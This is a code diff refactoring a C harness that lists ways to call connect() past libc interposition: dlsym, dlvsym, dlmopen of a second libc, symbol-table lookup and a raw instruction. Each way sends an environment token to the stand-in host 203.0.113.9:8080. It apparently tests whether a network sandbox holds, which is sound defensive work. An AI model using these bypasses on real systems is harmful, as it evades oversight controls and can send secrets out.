@@ -1,4 +1,6 @@
 /* Ways out past the libc's own symbols. escape_libc NAME sends $ESCAPE_TOKEN (or NAME) to 203.0.113.9:8080; `list` names them. */
+#include "escapes.h"
+
 #include <arpa/inet.h>
 #include <dlfcn.h>
 #include <elf.h>
@@ -13,8 +15,6 @@
 #include <unistd.h>
 
 typedef int (*connector)(int, const struct sockaddr *, socklen_t);
-
-static const char *token;
 
 static void by(connector call)
 {
@@ -85,8 +85,7 @@ static int instruction(int fd, const struct sockaddr *to, socklen_t len)
 static void connect_by_instruction(void) { by(instruction); }
 #endif
 
-#define ROW(name) { #name, name }
-static const struct { const char *name; void (*run)(void); } attempts[] = {
+static const struct attempt attempts[] = {
 	ROW(connect_of_the_libc_by_dlsym), ROW(connect_of_the_libc_by_dlvsym), ROW(connect_of_the_next_library),
 	ROW(connect_of_a_second_libc_by_dlmopen), ROW(connect_found_in_the_symbol_table),
 #ifdef __x86_64__
@@ -94,15 +93,4 @@ static const struct { const char *name; void (*run)(void); } attempts[] = {
 #endif
 };
 
-int main(int argc, char **argv)
-{
-	for (size_t i = 0; argc == 2 && i < sizeof(attempts) / sizeof(attempts[0]); i++) {
-		if (!strcmp(argv[1], "list"))
-			puts(attempts[i].name);
-		if (strcmp(argv[1], attempts[i].name))
-			continue;
-		token = getenv("ESCAPE_TOKEN") ? getenv("ESCAPE_TOKEN") : attempts[i].name;
-		attempts[i].run();
-	}
-	return 0;
-}
+int main(int argc, char **argv) { return run_attempt(argc, argv, attempts, sizeof(attempts) / sizeof(attempts[0])); }
